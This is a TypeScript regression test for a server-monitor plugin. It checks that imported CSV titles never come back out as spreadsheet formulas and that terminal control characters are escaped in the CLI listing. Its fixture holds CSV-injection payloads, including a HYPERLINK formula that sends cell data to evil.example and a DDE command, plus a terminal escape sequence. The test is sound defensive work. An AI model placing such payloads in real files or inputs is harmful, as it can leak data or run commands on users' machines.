import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { expect } from 'chai';
import request from 'supertest';
import { createTestEngine, describeEachBackend } from '@switchboard/core/testing';
import campaign from '@switchboard/plugin-campaign';
import monitor from '@switchboard/plugin-server-monitor';
import usersProjects from '@switchboard/plugin-users-projects';
import { cliEnv, runCli, runJson } from '../src/cli';

const KEY = 'csv-output-key-0123456789';
/** Cells a spreadsheet would run (OWASP CSV injection), and a terminal escape sequence. */
const TITLES = [
  '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(A1:A2)',
  '\tTabbed',
  '\rCarriage',
  '\x1b]0;owned\x07\x1b[2JCleared',
];
const cell = (text: string) => `"${text.replace(/"/g, '""')}"`;

/**
 * issue 26: what a CSV import brings in cannot become a formula in an export or drive a terminal. No route
 * or command exports CSV (the OpenAPI document offers no text/csv; a new export must neutralise these cells,
 * docs/security.md), and the operator's listing writes control characters as `\xNN`.
 */
describeEachBackend('imported CSV cells on the way out', (backend) => {
  let dir: string;
  before(() => (dir = fs.mkdtempSync(path.join(os.tmpdir(), 'csv-output-'))));
  after(() => fs.rmSync(dir, { recursive: true, force: true }));
  const env = () => cliEnv(backend(), 'users-projects,server-monitor', { SERVER_MONITOR_API_KEY: KEY });

  it('serves no CSV anywhere, and lists imported titles with control characters escaped', async function () {
    // Several processes or every route on a busy 2-core host: ~10 s under .ci/run on a slow day.
    this.timeout(60_000);
    const engine = await createTestEngine(backend(), { plugins: [usersProjects, campaign, monitor] });
    try {
      const document = await request(engine.http().callback()).get('/api/openapi.json').expect(200);
      expect(JSON.stringify(document.body)).not.to.match(/text\/csv/i);
    } finally {
      await engine.close();
    }

    const file = path.join(dir, 'servers.csv');
    const rows = TITLES.map((title, i) => `${cell(title)},https://formula-${i}.example.com/,Formula Inc`);
    fs.writeFileSync(file, ['title,endpoint,organization_name', ...rows].join('\r\n'));
    expect(await runJson(['servermonitor:import', file], env())).to.include({ imported: TITLES.length, errors: 0 });

    // Stored as written: JSON carries them as strings, which no reader evaluates.
    const listed = await runJson(['servermonitor:servers', '--search', 'formula-'], env());
    expect(listed.servers.map((s: { title: string }) => s.title)).to.have.members(TITLES);

    const human = await runCli(['servermonitor:servers', '--search', 'formula-'], env());
    expect(human.code).to.equal(0);
    // eslint-disable-next-line no-control-regex
    expect(human.stdout).not.to.match(/[\x00-\x08\x0b-\x1f\x7f]/);
    expect(human.stdout).to.contain('\\x1b]0;owned\\x07\\x1b[2JCleared');
    expect(human.stdout).to.contain('\\x0dCarriage');
    expect(human.stdout).to.contain('=HYPERLINK(');
  });
});
